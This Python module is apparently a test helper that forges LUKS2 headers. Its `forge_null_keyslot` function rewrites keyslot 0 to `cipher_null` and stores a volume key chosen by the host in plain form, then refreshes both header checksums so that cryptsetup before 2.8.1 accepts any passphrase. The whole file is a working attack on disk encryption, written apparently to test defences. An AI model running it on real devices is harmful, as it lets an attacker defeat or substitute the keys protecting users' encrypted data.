"""What a host can do to a LUKS2 header it holds (test helper, never used by the guest code).

``forge_null_keyslot`` rewrites keyslot 0 of a LUKS2 device as ``cipher_null``: its area then
holds the anti-forensic split of the volume key in plain, so cryptsetup before 2.8.1 "unlocks" it
with any passphrase and activates the volume with the host's key. Both header copies get new
SHA-256 checksums, as cryptsetup writes them.
"""

from __future__ import annotations

import hashlib
import json
import os
import struct
from pathlib import Path

__all__ = ["af_split", "forge_null_keyslot"]

_HDR_BIN = 4096
_CSUM_OFFSET = 448
_CSUM_SIZE = 64


def _diffuse(buf: bytes) -> bytes:
    out = bytearray()
    for i in range(0, len(buf), 32):
        block = buf[i:i + 32]
        out += hashlib.sha256(struct.pack(">I", i // 32) + block).digest()[:len(block)]
    return bytes(out)


def af_split(key: bytes, stripes: int) -> bytes:
    """LUKS anti-forensic split (sha256 diffusion) with all-zero random stripes but the last."""
    buf = bytes(len(key))
    for _ in range(stripes - 1):
        buf = _diffuse(buf)  # XOR with a zero stripe changes nothing
    return bytes(len(key)) * (stripes - 1) + bytes(a ^ b for a, b in zip(key, buf, strict=True))


def _rewrite_header(raw: bytearray, at: int, meta: dict[str, object]) -> None:
    hdr_size = struct.unpack_from(">Q", raw, at + 8)[0]
    text = json.dumps(meta, separators=(",", ":")).encode()
    area = hdr_size - _HDR_BIN
    if len(text) >= area:
        raise ValueError("forged JSON does not fit the metadata area")
    raw[at + _HDR_BIN:at + hdr_size] = text + bytes(area - len(text))
    raw[at + _CSUM_OFFSET:at + _CSUM_OFFSET + _CSUM_SIZE] = bytes(_CSUM_SIZE)
    digest = hashlib.sha256(bytes(raw[at:at + hdr_size])).digest()
    raw[at + _CSUM_OFFSET:at + _CSUM_OFFSET + 32] = digest


def forge_null_keyslot(device: Path, volume_key: bytes) -> None:
    """Make keyslot 0 of the LUKS2 header on ``device`` open with any passphrase to ``volume_key``."""
    fd = os.open(device, os.O_RDWR)
    try:
        head = bytearray(os.pread(fd, 64 << 10, 0))
        hdr_size = struct.unpack_from(">Q", head, 8)[0]
        meta = json.loads(bytes(head[_HDR_BIN:hdr_size]).rstrip(b"\0"))
        slot = meta["keyslots"]["0"]
        stripes = int(slot["af"]["stripes"])
        area = slot["area"]
        material = af_split(volume_key, stripes)
        if len(material) > int(area["size"]):
            raise ValueError("split key does not fit the keyslot area")
        area["encryption"] = "cipher_null-ecb"
        os.pwrite(fd, material, int(area["offset"]))
        _rewrite_header(head, 0, meta)
        secondary = hdr_size  # the second copy follows the first
        _rewrite_header(head, secondary, meta)
        os.pwrite(fd, bytes(head[:2 * hdr_size]), 0)
        os.fsync(fd)
    finally:
        os.close(fd)
